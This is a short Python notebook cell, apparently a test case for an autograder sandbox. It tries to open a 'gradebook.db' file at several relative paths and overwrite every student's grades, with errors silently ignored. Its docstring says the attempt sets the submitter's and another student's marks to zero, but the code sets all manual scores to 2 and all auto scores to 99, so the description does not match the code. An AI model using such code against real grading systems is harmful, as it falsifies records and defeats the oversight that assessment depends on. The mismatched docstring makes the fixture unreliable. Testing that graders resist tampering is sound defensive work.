"""
Tries: opens the gradebook by its path, sets its own marks and another student's to zero.
Happens: there is no such file where it runs; the path leads nowhere.
Marks: none
"""

# %% first
import os, sqlite3
for path in ("../../../gradebook.db", "gradebook.db", "../gradebook.db"):
    try:
        book = sqlite3.connect(path)
        book.execute("update grade set manual_score = 2")
        book.execute("update grade set auto_score = 99")
        book.commit()
    except sqlite3.Error:
        pass
